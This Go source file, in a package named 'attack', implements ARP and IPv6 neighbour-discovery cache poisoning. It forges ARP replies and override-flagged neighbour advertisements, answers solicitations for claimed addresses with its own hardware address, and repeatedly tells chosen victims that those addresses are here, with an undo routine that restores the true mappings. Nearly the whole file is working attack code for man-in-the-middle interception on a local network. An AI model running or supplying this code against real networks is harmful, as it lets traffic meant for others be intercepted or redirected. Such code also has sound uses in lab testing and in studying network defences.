package attack

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"net"
	"net/netip"
	"slices"
	"time"

	"github.com/vishvananda/netlink"
)

var everybody = net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}

func bytesContain(frame, text []byte) bool { return len(text) > 0 && bytes.Contains(frame, text) }

// nextHop asks the kernel's routes and neighbours. A UDP packet makes it look for a neighbour that it does not know.
func nextHop(address netip.Addr) (net.HardwareAddr, error) {
	routes, err := netlink.RouteGet(address.AsSlice())
	if err != nil {
		return nil, err
	}
	if len(routes) == 0 {
		return nil, fmt.Errorf("there is no route")
	}
	hop := address
	if gateway, ok := netip.AddrFromSlice(routes[0].Gw); ok {
		hop = gateway.Unmap()
	}
	for range 50 {
		if c, err := net.Dial("udp", netip.AddrPortFrom(hop, 9).String()); err == nil {
			_, _ = c.Write([]byte("?"))
			c.Close()
		}
		time.Sleep(20 * time.Millisecond)
		all, err := netlink.NeighList(outside.index(), 0)
		if err != nil {
			return nil, err
		}
		for _, n := range all {
			if ip, ok := netip.AddrFromSlice(n.IP); ok && ip.Unmap() == hop && len(n.HardwareAddr) == 6 {
				return n.HardwareAddr, nil
			}
		}
	}
	return nil, fmt.Errorf("%s does not answer", hop)
}

// tell tells a neighbour, by its hardware address, that an address is at a hardware address.
func (w *wire) tell(to net.HardwareAddr, toIP, claimed netip.Addr, owner net.HardwareAddr) error {
	if claimed.Is4() {
		b := []byte{0, 1, 8, 0, 6, 4, 0, 2}
		b = append(append(b, owner...), claimed.AsSlice()...)
		b = append(append(b, to...), toIP.AsSlice()...)
		return w.send(to, etherARP, b)
	}
	const advertisement, solicitedOverride, targetLinkLayer = 136, 0x60, 2
	b := append([]byte{advertisement, 0, 0, 0, solicitedOverride, 0, 0, 0}, claimed.AsSlice()...)
	b = append(append(b, targetLinkLayer, 1), owner...)
	binary.BigEndian.PutUint16(b[2:], sum(pseudo(claimed, toIP, protocolICMPv6, len(b)), b))
	return w.send(to, etherIPv6, append(network(claimed, toIP, protocolICMPv6, 255, len(b)), b...))
}

// asked is what a frame asks for: who asks, and whose hardware address is wanted.
func asked(frame []byte) (by net.HardwareAddr, from, wanted netip.Addr) {
	by = slices.Clone(net.HardwareAddr(frame[6:12]))
	const solicitation = 135
	switch binary.BigEndian.Uint16(frame[12:]) {
	case etherARP:
		if b := frame[14:]; len(b) >= 28 && b[7] == 1 {
			return by, netip.AddrFrom4([4]byte(b[14:18])), netip.AddrFrom4([4]byte(b[24:28]))
		}
	case etherIPv6:
		if b := frame[14:]; len(b) >= 64 && b[6] == protocolICMPv6 && b[40] == solicitation {
			return by, netip.AddrFrom16([16]byte(b[8:24])), netip.AddrFrom16([16]byte(b[48:64]))
		}
	}
	return by, from, wanted
}

// answer tells whoever asks for an address that is claimed that it is here.
func (w *wire) answer(frame []byte, claims []netip.Addr) error {
	by, from, wanted := asked(frame)
	if !wanted.IsValid() || !slices.Contains(claims, wanted) || !from.IsValid() || from.IsUnspecified() {
		return nil
	}
	return w.tell(by, from, wanted, w.own)
}

func addresses(texts []string) ([]netip.Addr, error) {
	var all []netip.Addr
	for _, text := range texts {
		a, err := netip.ParseAddr(text)
		if err != nil {
			return nil, at("resolve", err)
		}
		all = append(all, a)
	}
	return all, nil
}

// poison tells every victim for the time, again and again, that the claimed addresses are here. The undoing
// tells the truth.
func (w *wire) poison(victims, claims []netip.Addr, stop <-chan struct{}) (undo func(), err error) {
	where := map[netip.Addr]net.HardwareAddr{}
	for _, a := range slices.Concat(victims, claims) {
		hop, err := nextHop(a)
		if err != nil && slices.Contains(victims, a) {
			return nil, at("resolve", err)
		}
		where[a] = hop // an address that nobody has has none
	}
	tell := func(owner func(netip.Addr) net.HardwareAddr) {
		for _, v := range victims {
			for _, c := range claims {
				if o := owner(c); v.Is4() == c.Is4() && len(o) > 0 && len(where[v]) > 0 {
					_ = w.tell(where[v], v, c, o)
				}
			}
		}
	}
	done := make(chan struct{})
	go func() {
		defer close(done)
		for {
			tell(func(netip.Addr) net.HardwareAddr { return w.own })
			select {
			case <-stop:
				return
			case <-time.After(100 * time.Millisecond):
			}
		}
	}()
	return func() {
		<-done
		for range 3 {
			tell(func(c netip.Addr) net.HardwareAddr { return where[c] })
			time.Sleep(500 * time.Millisecond) // the kernel takes no second word within a second
		}
	}, nil
}
